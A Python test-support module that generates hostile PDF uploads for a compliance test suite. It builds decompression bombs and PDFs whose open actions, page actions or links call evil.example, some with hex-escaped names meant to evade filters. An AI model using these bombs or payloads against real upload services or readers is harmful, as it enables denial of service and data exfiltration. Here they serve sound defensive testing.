"""A hostile upload corpus (P28, P52): decompression bombs and PDF actions, built in memory.

Used by the tests and by ``bench/compliance_uploads.py``. The PDFs that need names spelled with
``#xx`` escapes or object streams are written by hand (``raw_pdf``), since pikepdf normalises
names and writes only well-formed files.
"""

from __future__ import annotations

import functools
import io
import zlib

import pikepdf

MIB = 1024 * 1024


@functools.cache
def deflated_zeros(size: int) -> bytes:
    """``size`` bytes of ASCII zeros, deflated (about 1 MB per GiB)."""
    packer = zlib.compressobj(9)
    block = b"0" * (16 * MIB)
    parts = [
        packer.compress(block[: min(len(block), size - done)])
        for done in range(0, size, len(block))
    ]
    return b"".join(parts) + packer.flush()


def _save(doc: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    # Streams exactly as written: qpdf's default recompression would undo the nesting.
    doc.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return out.getvalue()


def content_stream_bomb(inflated: int = 1024 * MIB) -> bytes:
    """A one-page PDF whose page content is a Flate stream inflating to ``inflated`` bytes."""
    doc = pikepdf.new()
    doc.add_blank_page(page_size=(200, 200))
    stream = doc.make_stream(b"")
    stream.write(deflated_zeros(inflated), filter=pikepdf.Name.FlateDecode)
    doc.pages[0].Contents = stream
    return _save(doc)


def nested_flate_bomb(inflated: int = 1024 * MIB) -> bytes:
    """Page content deflated twice (``/Filter [/FlateDecode /FlateDecode]``): a few kB."""
    doc = pikepdf.new()
    doc.add_blank_page(page_size=(200, 200))
    stream = doc.make_stream(b"")
    twice = zlib.compress(deflated_zeros(inflated), 9)
    stream.write(twice, filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode]))
    doc.pages[0].Contents = stream
    return _save(doc)


def pdf_pixel_bomb(side: int = 100_000) -> bytes:
    """A page that draws a ``side`` x ``side`` grey image whose Flate data is tiny."""
    doc = pikepdf.new()
    doc.add_blank_page(page_size=(200, 200))
    image = doc.make_stream(b"")
    image.write(zlib.compress(b"\0" * side, 9), filter=pikepdf.Name.FlateDecode)
    image.Type = pikepdf.Name.XObject
    image.Subtype = pikepdf.Name.Image
    image.Width = side
    image.Height = side
    image.ColorSpace = pikepdf.Name.DeviceGray
    image.BitsPerComponent = 8
    page = doc.pages[0]
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
    page.Contents = doc.make_stream(b"q 200 0 0 200 0 0 cm /Im0 Do Q")
    return _save(doc)


def raw_pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF from hand-written objects (numbered from 1) with a correct xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    )
    return out.getvalue()


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
CONTENT = b"<< /Length 0 >>\nstream\n\nendstream"


def _page(extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R %s >>" % extra


def catalog_action(action: bytes, key: bytes = b"/OpenAction") -> bytes:
    """A PDF whose catalog runs ``action`` (a dictionary's source) when opened."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R %s %s >>" % (key, action)
    return raw_pdf([catalog, PAGES, _page(), CONTENT])


def page_additional_action(action: bytes) -> bytes:
    """A page whose ``/AA`` open event runs ``action``."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    return raw_pdf([catalog, PAGES, _page(b"/AA << /O %s >>" % action), CONTENT])


def link_annotation(action: bytes) -> bytes:
    """A page with a link annotation whose ``/A`` is ``action``."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    annot = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A %s >>" % action
    return raw_pdf([catalog, PAGES, _page(b"/Annots [5 0 R]"), CONTENT, annot])


def _hex(text: bytes) -> bytes:
    return b"<" + text.hex().encode() + b">"


URI_ACTION = b"<< /S /URI /URI (https://evil.example/collect) >>"
SUBMIT_ACTION = b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/submit) >> >>"
GOTOR_ACTION = b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"
HEX_JAVASCRIPT_URI = b"<< /S /URI /URI %s >>" % _hex(b"javascript:app.alert(1)")
HEX_NAMED_JAVASCRIPT = b"<< /S /J#61vaScript /JS (app.alert(1)) >>"
INTERNAL_LINK = b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>"

# Each action variant, as the catalog's OpenAction, under a hex-escaped key, as a page's /AA and
# as a link: all must be removed from the stored file (or the file refused).
ACTIONS = {
    "openaction_uri": catalog_action(URI_ACTION),
    "openaction_submitform": catalog_action(SUBMIT_ACTION),
    "openaction_gotor": catalog_action(GOTOR_ACTION),
    "openaction_hex_javascript_uri": catalog_action(HEX_JAVASCRIPT_URI),
    "hex_escaped_openaction_key": catalog_action(URI_ACTION, key=b"/Open#41ction"),
    "catalog_aa": catalog_action(b"<< /WC %s >>" % SUBMIT_ACTION, key=b"/AA"),
    "page_aa_uri": page_additional_action(URI_ACTION),
    "link_uri": link_annotation(URI_ACTION),
    "link_hex_javascript_uri": link_annotation(HEX_JAVASCRIPT_URI),
    "link_submitform": link_annotation(SUBMIT_ACTION),
}


def object_stream_bomb(inflated: int = 1024 * MIB) -> bytes:
    """A PDF 1.5 file whose only object stream inflates to ``inflated`` bytes (mostly spaces
    after its one object), with a cross-reference stream pointing into it."""
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}

    def obj(number: int, body: bytes) -> None:
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    obj(2, PAGES)
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources 5 0 R >>")
    packed = _deflated_object_stream(inflated)
    obj(
        4,
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(packed), packed),
    )
    xref_at = out.tell()
    rows = [b"\x00" + (0).to_bytes(4, "big") + (0xFFFF).to_bytes(2, "big")]
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in (1, 2, 3, 4)]
    rows.append(b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00")  # object 5: first in stream 4
    rows.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00")  # object 6: this stream
    table = b"".join(rows)
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n" % (len(table), table)
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


@functools.cache
def _deflated_object_stream(inflated: int) -> bytes:
    packer = zlib.compressobj(9)
    head = packer.compress(b"5 0 << /ProcSet [/PDF] >>")
    block = b" " * (16 * MIB)
    parts = [packer.compress(block) for _ in range(max(1, inflated // len(block)))]
    return head + b"".join(parts) + packer.flush()


@functools.cache
def bombs(inflated: int = 1024 * MIB) -> dict[str, tuple[bytes, str]]:
    """Name -> (file, file name) of every decompression bomb of the corpus."""
    from tests.compliance import samples

    return {
        "content_stream_bomb": (content_stream_bomb(inflated), "bomb.pdf"),
        "nested_flate_bomb": (nested_flate_bomb(inflated), "nested.pdf"),
        "object_stream_bomb": (object_stream_bomb(inflated), "objstm.pdf"),
        "pdf_pixel_bomb": (pdf_pixel_bomb(), "pixels.pdf"),
        "png_pixel_bomb": (samples.pixel_bomb_png(), "bomb.png"),
    }
